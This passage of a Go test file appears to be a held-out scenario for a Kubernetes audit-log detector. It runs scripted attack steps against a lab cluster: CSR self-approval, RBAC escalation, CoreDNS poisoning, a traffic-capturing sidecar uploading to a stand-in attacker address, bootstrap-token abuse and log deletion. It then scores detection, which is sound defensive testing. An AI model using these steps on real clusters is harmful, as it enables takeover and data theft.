			}, metav1.CreateOptions{})
			return err
		}},
		{"A28", "attack", "approve its own CSR and collect the signed certificate", func(ctx context.Context) error {
			csr, err := atkArgo.CertificatesV1().CertificateSigningRequests().Get(ctx, csrName, metav1.GetOptions{})
			if err != nil {
				return err
			}
			csr.Status.Conditions = append(csr.Status.Conditions, certificatesv1.CertificateSigningRequestCondition{
				Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "KubectlApprove", Message: "This CSR was approved by kubectl certificate approve."})
			if _, err := atkArgo.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, csrName, csr, metav1.UpdateOptions{}); err != nil {
				return err
			}
			deadline := time.Now().Add(45 * time.Second)
			for {
				csr, err := atkArgo.CertificatesV1().CertificateSigningRequests().Get(ctx, csrName, metav1.GetOptions{})
				if err != nil {
					return err
				}
				if len(csr.Status.Certificate) > 0 {
					cfg := &rest.Config{Host: c.URL, TLSClientConfig: rest.TLSClientConfig{CAFile: c.CACertPath, CertData: csr.Status.Certificate, KeyData: certKey}}
					atkCert = mk(cfg, h5IPAttacker2, h5UAAttacker)
					return nil
				}
				if time.Now().After(deadline) {
					return fmt.Errorf("CSR %s approved but never signed", csrName)
				}
				time.Sleep(500 * time.Millisecond)
			}
		}},
		{"A29", "attack", "use the minted client certificate from a second VPS: read kube-system Secrets", func(ctx context.Context) error {
			_, err := atkCert.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
			return err
		}},
		{"A30", "attack", "RoleBinding in kube-system granting the contractor's tenant group admin", func(ctx context.Context) error {
			_, err := atkArgo.RbacV1().RoleBindings("kube-system").Create(ctx, &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "tenant-admins-ops", Namespace: "kube-system"},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "admin"}, Subjects: groupSubject(h5TenantGroup),
			}, metav1.CreateOptions{})
			return err
		}},
		{"A31", "attack", "the leaked contractor kubeconfig now reads kube-system Secrets", func(ctx context.Context) error {
			return h5Retry(10*time.Second, forbidden, func() error {
				_, err := atkContractor.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
				return err
			})
		}},
		{"A32", "attack", "ClusterRole aggregated into view (rbac aggregate-to-view) granting Secrets and pods/exec", func(ctx context.Context) error {
			_, err := atkArgo.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{
				ObjectMeta: metav1.ObjectMeta{Name: "metrics-reader-ext", Labels: map[string]string{"rbac.authorization.k8s.io/aggregate-to-view": "true"}},
				Rules: []rbacv1.PolicyRule{
					{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: read},
					{APIGroups: []string{""}, Resources: []string{"pods/exec"}, Verbs: []string{"create", "get"}},
				},
			}, metav1.CreateOptions{})
			return err
		}},
		{"A33", "attack", "CoreDNS poisoning: answer the payment provider's names with the attacker's address", func(ctx context.Context) error {
			cm, err := atkArgo.CoreV1().ConfigMaps("kube-system").Get(ctx, "coredns", metav1.GetOptions{})
			if err != nil {
				return err
			}
			cm.Data["Corefile"] = strings.Replace(cm.Data["Corefile"], "    errors\n", "    errors\n    hosts {\n       "+h5IPAttacker+" api.stripe.com hooks.stripe.com\n       fallthrough\n    }\n", 1)
			_, err = atkArgo.CoreV1().ConfigMaps("kube-system").Update(ctx, cm, metav1.UpdateOptions{})
			return err
		}},
		{"A34", "attack", "Service with externalIPs capturing traffic to the payment gateway's IP (CVE-2020-8554)", func(ctx context.Context) error {
			_, err := atkArgo.CoreV1().Services(h5NS).Create(ctx, &corev1.Service{
				ObjectMeta: metav1.ObjectMeta{Name: "gateway-cache", Namespace: h5NS},
				Spec: corev1.ServiceSpec{Selector: map[string]string{"app": "pg-maint"}, ExternalIPs: []string{h5ExternalIP},
					Ports: []corev1.ServicePort{{Name: "https", Port: 443, TargetPort: intstr.FromInt32(8443)}}},
			}, metav1.CreateOptions{})
			return err
		}},
		{"A35", "attack", "backdoor sidecar injected into the ingress-nginx controller Deployment", func(ctx context.Context) error {
			d, err := atkArgo.AppsV1().Deployments("ingress-nginx").Get(ctx, "ingress-nginx-controller", metav1.GetOptions{})
			if err != nil {
				return err
			}
			d.Spec.Template.Spec.Containers = append(d.Spec.Template.Spec.Containers, corev1.Container{Name: "metrics-exporter", Image: "docker.io/nginxmetrics/exporter:0.9",
				Args: []string{"--capture=:443", "--upload=https://" + h5IPAttacker + "/u"}})
			_, err = atkArgo.AppsV1().Deployments("ingress-nginx").Update(ctx, d, metav1.UpdateOptions{})
			return err
		}},
		{"A36", "attack", "privileged ephemeral debug container injected into the kube-proxy pod", func(ctx context.Context) error {
			p, err := atkArgo.CoreV1().Pods("kube-system").Get(ctx, "kube-proxy-7xk2p", metav1.GetOptions{})
			if err != nil {
				return err
			}
			p.Spec.EphemeralContainers = append(p.Spec.EphemeralContainers, corev1.EphemeralContainer{
				EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debugger-8fzq2", Image: "docker.io/library/busybox:1.36", Stdin: true, TTY: true,
					ImagePullPolicy: corev1.PullIfNotPresent, TerminationMessagePolicy: corev1.TerminationMessageReadFile,
					SecurityContext: &corev1.SecurityContext{Privileged: &yes}},
				TargetContainerName: "kube-proxy",
			})
			_, err = atkArgo.CoreV1().Pods("kube-system").UpdateEphemeralContainers(ctx, "kube-proxy-7xk2p", p, metav1.UpdateOptions{})
			return err
		}},
		{"A37", "attack", "token for a controller ServiceAccount that holds escalate (clusterrole-aggregation-controller)", func(ctx context.Context) error {
			exp := int64(24 * 3600)
			_, err := atkArgo.CoreV1().ServiceAccounts("kube-system").CreateToken(ctx, "clusterrole-aggregation-controller", &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: &exp}}, metav1.CreateOptions{})
			return err
		}},
		{"A38", "attack", "bootstrap token Secret (a kubeadm join token) for later node impersonation", func(ctx context.Context) error {
			_, err := atkArgo.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: "bootstrap-token-" + h5BootstrapID, Namespace: "kube-system"},
				Type:       corev1.SecretTypeBootstrapToken,
				StringData: map[string]string{
					"description": "kubeadm join token", "token-id": h5BootstrapID, "token-secret": h5BootstrapToken,
					"expiration":                     time.Now().Add(24 * time.Hour).UTC().Format(time.RFC3339),
					"usage-bootstrap-authentication": "true", "usage-bootstrap-signing": "true",
					"auth-extra-groups": "system:bootstrappers:kubeadm:default-node-token",
				},
			}, metav1.CreateOptions{})
			if err == nil {
				atkBootstrap = mk(tokenCfg("bootstrap-"+h5BootstrapID, h5BootstrapID+"."+h5BootstrapToken), h5IPAttacker2, h5UAAttackerKubel)
			}
			return err
		}},
		{"A39", "attack", "bootstrap token used to request a client certificate for a fake node (TLS bootstrap abuse)", func(ctx context.Context) error {
			_, csrPEM, err := h5CSR("system:node:lab-worker-7", []string{"system:nodes"}, nil, nil)
			if err != nil {
				return err
			}
			return h5Retry(15*time.Second, unauthorized, func() error {
				_, err := atkBootstrap.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
					ObjectMeta: metav1.ObjectMeta{GenerateName: "node-csr-"},
					Spec: certificatesv1.CertificateSigningRequestSpec{Request: csrPEM, SignerName: certificatesv1.KubeAPIServerClientKubeletSignerName,
						Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth}},
				}, metav1.CreateOptions{})
				return err
			})
		}},
		{"A40", "attack", "kubelet API through the API server's nodes/proxy (fails after authorization)", func(ctx context.Context) error {
			return authorizedRaw(atkArgo.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes", c.NodeName, "proxy", "pods").Do(ctx))
		}},
		{"A41", "attack", "cover tracks: delete all Events in the tenant namespace", func(ctx context.Context) error {
			return atkArgo.CoreV1().Events(h5NS).DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{})
		}},
	}

	benign3 := []h5Step{
		{"B21", "benign", "Argo CD sync: reverts the hand-edited ConfigMap and rolls checkout forward", func(ctx context.Context) error {
			cm, err := argo.CoreV1().ConfigMaps(h5NS).Get(ctx, "checkout-config", metav1.GetOptions{})
			if err != nil {
				return err
			}
			cm.Data["FEATURE_NEW_3DS"] = "false"
			if _, err := argo.CoreV1().ConfigMaps(h5NS).Update(ctx, cm, metav1.UpdateOptions{}); err != nil {
				return err
			}
			d, err := argo.AppsV1().Deployments(h5NS).Get(ctx, "checkout", metav1.GetOptions{})
			if err != nil {
				return err
			}
			d.Spec.Template.Spec.Containers[0].Image = "ghcr.io/acme-pay/checkout:1.44.0"
			_, err = argo.AppsV1().Deployments(h5NS).Update(ctx, d, metav1.UpdateOptions{})
			return err
		}},
		{"B22", "benign", "Argo CD self-heal: restores the ingress-nginx controller Deployment from Git", func(ctx context.Context) error {
			d, err := argo.AppsV1().Deployments("ingress-nginx").Get(ctx, "ingress-nginx-controller", metav1.GetOptions{})
			if err != nil {
				return err
			}
			var keep []corev1.Container
			for _, ct := range d.Spec.Template.Spec.Containers {
				if ct.Name == "controller" {
					keep = append(keep, ct)
				}
			}
			d.Spec.Template.Spec.Containers = keep
			_, err = argo.AppsV1().Deployments("ingress-nginx").Update(ctx, d, metav1.UpdateOptions{})
			return err
		}},
		{"B23", "benign", "nightly db-backup job: Secrets and ConfigMaps cluster-wide", func(ctx context.Context) error {
			if _, err := backup.CoreV1().Secrets("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := backup.CoreV1().ConfigMaps("").List(ctx, metav1.ListOptions{})
			return err
		}},
		{"B24", "benign", "SRE uncordons the node after patching", func(ctx context.Context) error {
			_, err := sre.CoreV1().Nodes().Patch(ctx, c.NodeName, types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":null}}`), metav1.PatchOptions{})
			return err
		}},
		{"B25", "benign", "SRE grants the on-call group view (access request ticket): ClusterRoleBinding", func(ctx context.Context) error {
			_, err := sre.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "oncall-view", Annotations: map[string]string{"acme-pay.com/ticket": "ACCESS-4821"}},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "view"}, Subjects: groupSubject("oncall"),
			}, metav1.CreateOptions{})
			return err
		}},
		{"B26", "benign", "helm upgrade falco from the platform pipeline (restores the chart's nodeSelector)", func(ctx context.Context) error {
			return h5HelmUpgrade(ctx, helm, "falco", "falco", 3, func() error {
				if _, err := helm.AppsV1().DaemonSets("falco").Get(ctx, "falco", metav1.GetOptions{}); err != nil {
					return err
				}
				p := `{"metadata":{"labels":{"helm.sh/chart":"falco-4.13.1"}},"spec":{"template":{"spec":{"nodeSelector":null,"containers":[{"name":"falco","image":"docker.io/falcosecurity/falco:0.39.2"}]}}}}`
				_, err := helm.AppsV1().DaemonSets("falco").Patch(ctx, "falco", types.StrategicMergePatchType, []byte(p), metav1.PatchOptions{})
				return err
			})
		}},
		{"B27", "benign", "cert-manager rotates the internal CA key pair and reissues the checkout certificate", func(ctx context.Context) error {
			for _, ref := range [][2]string{{"cert-manager", "internal-ca-key-pair"}, {h5NS, "checkout-tls"}} {
				s, err := certManager.CoreV1().Secrets(ref[0]).Get(ctx, ref[1], metav1.GetOptions{})
				if err != nil {
					return err
				}
				s.Data = tlsData("gen3")
				if _, err := certManager.CoreV1().Secrets(ref[0]).Update(ctx, s, metav1.UpdateOptions{}); err != nil {
					return err
				}
			}
			return nil
		}},
		{"B28", "benign", "kubelet heartbeat: node status update", func(ctx context.Context) error {
			ts := now()
			p := fmt.Sprintf(`{"status":{"conditions":[{"type":"Ready","status":"True","reason":"KubeletReady","message":"kubelet is posting ready status","lastHeartbeatTime":%q,"lastTransitionTime":%q}]}}`, ts, ts)
			_, err := node.CoreV1().Nodes().Patch(ctx, c.NodeName, types.StrategicMergePatchType, []byte(p), metav1.PatchOptions{}, "status")
			return err
		}},
		{"B29", "benign", "helm upgrade gatekeeper (re-creates its validating webhook)", func(ctx context.Context) error {
			return h5HelmUpgrade(ctx, helm, "gatekeeper-system", "gatekeeper", 2, func() error {
				_, err := helm.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, h5GatekeeperWebhook(), metav1.CreateOptions{})
				return err
			})
		}},
		{"B30", "benign", "weekly kubescape RBAC report: cluster role bindings and can-i checks", func(ctx context.Context) error {
			if _, err := auditor.RbacV1().ClusterRoleBindings().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			for _, ra := range []authorizationv1.ResourceAttributes{
				{Verb: "list", Resource: "secrets", Namespace: "kube-system"},
				{Verb: "create", Resource: "pods", Subresource: "exec", Namespace: h5NS},
			} {
				ra := ra
				if _, err := auditor.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, &authorizationv1.SelfSubjectAccessReview{Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &ra}}, metav1.CreateOptions{}); err != nil {
					return err
				}
			}
			return nil
		}},
	}

	attack3 := []h5Step{
		{"A42", "attack", "days later: the backdoor ServiceAccount's legacy token from a Tor exit lists Secrets cluster-wide", func(ctx context.Context) error {
			torBackdoor = mk(tokenCfg("kube-controller", backdoorToken), h5IPTor, h5UAAttacker)
			_, err := torBackdoor.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
			return err
		}},
	}

	var script []h5Step
	for _, block := range [][]h5Step{benign1, attack1, benign2, attack2, benign3, attack3} {
		script = append(script, block...)
	}
	for _, st := range script {
		rec.set(st.ID)
		sctx, cancel := context.WithTimeout(ctx, 90*time.Second)
		err := st.run(sctx)
		// A read-modify-write of a Deployment races its controller's status
		// updates: a 409 Conflict is run again, as kubectl and controllers do
		// (the retry's requests belong to the same step).
		for try := 0; try < 5 && apierrors.IsConflict(err); try++ {
			err = st.run(sctx)
		}
		cancel()
		if err != nil {
			t.Fatalf("step %s (%s: %s) did not execute as scripted: %v", st.ID, st.Kind, st.Technique, err)
		}
	}
	rec.set("")
	t.Logf("h5: %d steps executed in %s", len(script), time.Since(start).Round(time.Second))

	// ---- detection ----
	rec.waitLogged(t, c.AuditLogPath)
	out, stderr, code := runAPIGuard(t, "audit", "scan", c.AuditLogPath, "-o", "jsonl")
	if code != 0 && code != 1 {
		t.Fatalf("apiguard audit scan: exit %d\nstderr:\n%s", code, stderr)
	}
	byStep := rec.alertsByStep(out)

	sum := h5Summary{Scenario: "heldout5: leaked contractor namespace-admin kubeconfig -> backup SA -> Argo CD cluster-admin token",
		Command: "apiguard audit scan " + c.AuditLogPath + " -o jsonl", ScanExitCode: code, Missed: []string{}, BenignHighSteps: []string{}}
	for _, alerts := range byStep[""] {
		sum.UnattributedAlerts += len(alerts)
	}
	for _, st := range script {
		r := h5StepResult{ID: st.ID, Kind: st.Kind, Technique: st.Technique, Rules: []string{}, Severity: map[string]int{}}
		high := map[string]bool{}
		for rule, alerts := range byStep[st.ID] {
			r.Rules = append(r.Rules, rule)
			for _, a := range alerts {
				r.Alerts++
				r.Severity[a.Severity]++
				if a.Severity == "high" || a.Severity == "critical" {
					high[rule] = true
				}
			}
		}
		sort.Strings(r.Rules)
		for rule := range high {
			r.HighRules = append(r.HighRules, rule)
		}
		sort.Strings(r.HighRules)
		r.Detected = r.Alerts > 0
		switch st.Kind {
		case "attack":
			sum.AttackSteps++
			if r.Detected {
				sum.Detected++
				t.Logf("h5 %s attack DETECTED  %s -- rules %v", st.ID, st.Technique, r.Rules)
			} else {
				sum.Missed = append(sum.Missed, st.ID+": "+st.Technique)
				t.Logf("h5 %s attack MISSED    %s", st.ID, st.Technique)
			}
		case "benign":
			sum.BenignSteps++
			if len(r.HighRules) > 0 {
				sum.BenignHighSteps = append(sum.BenignHighSteps, fmt.Sprintf("%s: %v", st.ID, r.HighRules))
				for _, rule := range r.HighRules {
					for _, a := range byStep[st.ID][rule] {
						if a.Severity == "high" || a.Severity == "critical" {
							sum.BenignHighAlerts++
						}
					}
				}
			}
			t.Logf("h5 %s benign alerts=%d high/critical=%v all=%v  %s", st.ID, r.Alerts, r.HighRules, r.Rules, st.Technique)
		}
		sum.Steps = append(sum.Steps, r)
	}
	if sum.AttackSteps > 0 {
		sum.DetectionRate = float64(sum.Detected) / float64(sum.AttackSteps)
	}
	sum.RunSeconds = time.Since(start).Seconds()
	t.Logf("h5 RESULT: detection rate %d/%d (%.1f%%), benign high/critical alerts %d on %d of %d benign steps, unattributed alerts %d, scan exit %d, run %s",
		sum.Detected, sum.AttackSteps, 100*sum.DetectionRate, sum.BenignHighAlerts, len(sum.BenignHighSteps), sum.BenignSteps, sum.UnattributedAlerts, code, time.Since(start).Round(time.Second))
	for _, m := range sum.Missed {
		t.Logf("h5 missed: %s", m)
	}
	for _, b := range sum.BenignHighSteps {
		t.Logf("h5 benign high: %s", b)
	}
	if path := os.Getenv("APIGUARD_HELDOUT_OUT"); path != "" {
		b, err := json.MarshalIndent(sum, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, append(b, '\n'), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("h5: summary written to %s", path)
	}
}
